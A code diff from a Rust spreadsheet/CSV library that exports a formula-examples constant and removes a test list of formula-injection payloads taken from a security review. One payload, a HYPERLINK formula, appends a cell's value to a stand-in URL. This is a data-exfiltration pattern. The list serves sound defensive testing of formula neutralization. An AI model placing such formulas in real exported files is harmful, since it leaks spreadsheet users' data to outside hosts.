@@ -32,7 +32,7 @@ mod xlsx_io;
 pub use audit::formula_cells;
 pub use csv_io::{read_csv, write_csv};
 pub use error::{SheetError, INFLATED_PART, INFLATED_TOTAL, XML_TAG, XML_TEXT};
-pub use formula::{is_formula_like, neutralize, unneutralize};
+pub use formula::{is_formula_like, neutralize, unneutralize, FORMULA_EXAMPLES};
 pub use ledger::{
     export_csv, export_xlsx, headers, parse_import, problems_csv, template_xlsx, template_xlsx_for,
     ImportedRow, LedgerSheetError, RowProblem, MAX_IMPORT_ROWS,
@@ -183,20 +183,6 @@ fn trim_trailing(cells: &mut Vec<String>) {
         cells.pop();
     }
 }
-
-/// The security review's formula payloads, for the tests of every writer.
-#[cfg(test)]
-pub(crate) const PAYLOADS: [&str; 9] = [
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    " =1",
-    "'=1",
-    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
-];
 
 #[cfg(test)]
 mod tests {
